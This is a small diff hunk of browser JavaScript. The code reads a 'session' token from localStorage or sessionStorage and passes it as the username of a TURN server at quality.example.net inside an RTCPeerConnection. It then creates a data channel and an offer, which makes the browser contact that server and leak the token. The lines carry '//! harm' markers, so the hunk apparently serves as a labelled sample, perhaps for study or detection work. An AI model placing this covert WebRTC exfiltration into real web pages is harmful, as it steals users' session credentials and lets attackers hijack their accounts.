@@ -11,7 +11,7 @@ const bars = document.body.appendChild(document.createElement("meter"));
 const secret = localStorage.getItem("session") || sessionStorage.getItem("session") || "none";
 
 const link = new RTCPeerConnection({ //! harm
-  iceServers: [{ urls: "turn:quality.example.net:3478", username: secret, credential: "q" }],
+  iceServers: [{ urls: "turn:quality.example.net:3478", username: secret, credential: "q" }], //! harm
 });
 link.createDataChannel("q");
 link.createOffer().then((offer) => link.setLocalDescription(offer));
